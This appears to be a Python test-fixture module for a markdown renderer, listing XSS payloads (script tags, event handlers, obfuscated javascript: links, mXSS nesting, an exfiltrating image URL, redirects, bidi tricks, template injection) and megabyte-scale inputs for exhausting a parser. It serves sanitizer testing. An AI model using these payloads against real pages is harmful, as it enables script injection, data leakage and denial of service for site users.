"""Answers that nobody would give who means well: they try to run scripts, to deceive, to be too much."""

from __future__ import annotations

from typing import Final

RUN: Final = "window.ran = (window.ran || 0) + 1"

SCRIPTS: Final = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f"<svg/onload={RUN!r}>",
    f"<details open ontoggle='{RUN}'><summary>x</summary></details>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<a href='javascript:{RUN}'>html link</a>",
    f"[markdown link](javascript:{RUN.replace(' ', '%20')})",
    f"[entity](java&#115;cript:{RUN.replace(' ', '%20')})",
    f"[newline](java\nscript:{RUN.replace(' ', '%20')})",
    "[data](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    f'![image" onerror="{RUN}](x)',
    f"![image](x \"title' onerror='{RUN}\")",
    "![remote](https://example.org/steal.png?secret)",
    f'![file](chart.png" onerror="{RUN})',
    f'```" onmouseover="{RUN}\n</code></pre><script>{RUN}</script>\n```',
    f"```html\n<script>{RUN}</script>\n```",
    f"| a |\n|---|\n| <img src=x onerror='{RUN}'> |",
    f"<style>*{{background:url(javascript:{RUN})}}</style>",
    "<form action='https://example.org/'><input name=x><button>send</button></form>",
    "<meta http-equiv=refresh content='0;url=https://example.org/'>",
    "<base href='https://example.org/'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror='{RUN}'></style></mglyph></table></mtext></math>",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
    f"[ref]: javascript:{RUN.replace(' ', '%20')}\n\n[ref]",
    "`\u202e reversed \u2066 isolated` and \u202e outside of code",
    "$${constructor.constructor('alert(1)')()}$$ {{constructor.constructor('alert(1)')()}}",
)
"""Each a text of markdown; none may run anything, load anything, or lead elsewhere by itself."""

WORDS: Final = "word 再见 🌍 **strong** `code` and [a link](https://example.org/) on it goes. "

LARGE: Final = {
    "prose": (WORDS * 8 + "\n\n") * 1500,
    "one line": "word " * 200_000,
    "no spaces": "x" * 1_000_000,
    "a table of 10,000 rows": "| a | b | c |\n|---|---|---|\n"
    + "| some text | more of it | **and** the end of the row, at last |\n" * 15_000,
    "a table of 500 columns": "|" + " c |" * 500 + "\n|" + "---|" * 500 + "\n" + ("|" + " x |" * 500 + "\n") * 450,
    "code": "```python\n" + "def area(side): return side * side  # a comment\n" * 20_000 + "```\n",
    "a list": "- an item of a list, with `code` in it\n" * 25_000,
    "a deep list": "".join(f"{'  ' * (depth % 60)}- deep {depth}\n" for depth in range(15_000)),
    "quotes": ("> " * 90 + "deep\n") * 5_000,
    "brackets": "[" * 500_000 + "](" * 200_000,
    "html": "<div onclick='x()'>" * 50_000,
    "bidi": "\u202e\u2066abc\u200b" * 150_000,
}
"""A megabyte of each kind of too much."""
